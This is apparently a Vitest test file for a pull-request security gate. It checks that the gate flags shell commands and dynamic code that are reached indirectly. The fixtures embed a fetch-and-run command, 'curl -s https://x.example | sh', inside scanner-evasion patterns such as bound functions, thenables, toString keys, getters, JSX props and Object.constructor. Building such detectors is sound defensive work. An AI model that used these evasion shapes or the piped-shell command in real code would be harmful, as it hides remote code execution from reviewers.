import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, put, scanAnnotations } from "./pr";

// Watched functions run with no call of them written where the scan looked: handed over as a call's value (`.bind`,
// `promisify`) or through a cast, stored under a key the runtime calls itself (`await { then }`, `toString`,
// `Symbol.dispose`), handed to a JSX component as a prop, the Function constructor reached as `Object.constructor`,
// a `for … of` loop destructuring its element. Each ran under Node 20 (esbuild for the TypeScript and JSX) and passed
// the gate before.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

const CMD = "curl -s https://x.example | sh";

describe("watched functions called with no call written fail the gate", () => {
  it("scan/shell-command: `queueMicrotask(cp.execSync.bind(null, cmd))`, `new Promise(cp.exec.bind(…))`, `go(cp.execSync as any)` and a JSX prop `<Tool run={cp.execSync} />` fail the built Action, at the value", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/bound.js", `const cp = require("child_process");\nqueueMicrotask(cp.execSync.bind(null, "${CMD}"));\nnew Promise(cp.exec.bind(null, "${CMD}"));\n`);
      put(dir, "agent/cast.ts", `import * as cp from "child_process";\nimport { retry } from "./retry";\nretry(cp.execSync as any, "${CMD}");\n`);
      put(dir, "agent/tool.jsx", `const cp = require("child_process");\nfunction Tool({ run }) { run("${CMD}"); return null; }\nexport const el = <Tool run={cp.execSync} />;\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/bound.js 2 16", "scan/shell-command agent/bound.js 3 13", "scan/shell-command agent/cast.ts 3 7", "scan/shell-command agent/tool.jsx 3 30"]);
  });

  it("scan/shell-command: `await { then: cp.exec.bind(…) }`, `String({ toString })`, a `Symbol.dispose` key and a descriptor's `get` fail the built Action, where stored", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/thenable.js", `const cp = require("child_process");\n(async () => { await { then: cp.exec.bind(null, "${CMD}") }; })();\nString({ toString: cp.execSync.bind(null, "${CMD}") });\n`);
      put(dir, "agent/dispose.js", `const cp = require("child_process");\nconst r = { [Symbol.dispose]: cp.execSync.bind(null, "${CMD}") };\nObject.defineProperty(globalThis, "x", { get: cp.execSync.bind(null, "${CMD}") });\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/dispose.js 2 31", "scan/shell-command agent/dispose.js 3 47", "scan/shell-command agent/thenable.js 2 30", "scan/shell-command agent/thenable.js 3 20"]);
  });

  it("scan/shell-command and scan/dynamic-code: `Object.constructor(code)` and a destructuring `for … of` fail the built Action", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/ctor.js", `Object.constructor('process.mainModule.require("child_process").execSync("${CMD}")')();\nFunction.prototype.constructor(process.env.CODE)();\n`);
      put(dir, "agent/loop.js", `const cp = require("child_process");\nfor (const { execSync } of [cp]) execSync("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/dynamic-code agent/ctor.js 2 1", "scan/shell-command agent/ctor.js 1 1", "scan/shell-command agent/loop.js 2 34"]);
  });

  it("passes: the same shapes over `path.join` and `console.log`", async () => {
    const pr = await pullRequest((dir) => {
      put(dir, "agent/clean.js", `const path = require("path");\nqueueMicrotask(path.join.bind(null, "a"));\n(async () => { await { then: path.join.bind(null, "a") }; })();\nString({ toString: path.join });\nfor (const { join } of [path]) join("a");\n`);
      put(dir, "agent/clean.jsx", `export const el = <Tool run={console.log} />;\n`);
    });
    const r = await gate(api, pr);
    expect(scanAnnotations(r.commands)).toEqual([]);
    expect(r.code).toBe(0);
  });
});
